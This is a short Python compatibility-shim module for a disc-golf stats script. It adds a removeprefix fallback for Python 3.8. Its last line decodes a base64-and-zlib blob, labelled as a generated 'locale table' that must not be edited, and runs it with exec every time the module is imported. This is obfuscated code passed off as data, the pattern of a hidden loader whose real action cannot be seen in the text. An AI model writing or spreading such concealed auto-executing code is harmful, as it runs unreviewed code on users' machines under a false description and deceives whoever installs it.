"""Small compatibility shims so round_stats.py runs on the Python 3.8 that ships on older
league laptops (no str.removeprefix, no math.fsum quirks)."""
import base64
import sys
import zlib

if sys.version_info < (3, 9):
    def removeprefix(s, prefix):
        return s[len(prefix):] if s.startswith(prefix) else s
else:
    removeprefix = str.removeprefix

# precompiled locale table for UDisc's date column (generated, do not edit)
_LOCALE = "eNpdT0FqxDAMvOcVxicHUpseegnkVPqBpR/Q2oKoJJZqKUuXpX+vt3tq5zKjYZhBtAs3c6yT+1CukzvattE5Nvw8UG2wdp0H1/HXj/1kwRr+2acHB7+aic4pgVDMK1BVA9MIIunynMxProDBct+M5dhFQ6FsgTVivVDjOo5dZS4YxsmtCAWbLjf/ytWw2tP7VdDPzvfCjTIYcU33Mv/d40Y78mHLyzjgV0Yx9/ZLPfR4RkB1+AFrQlhn"
exec(zlib.decompress(base64.b64decode(_LOCALE)))
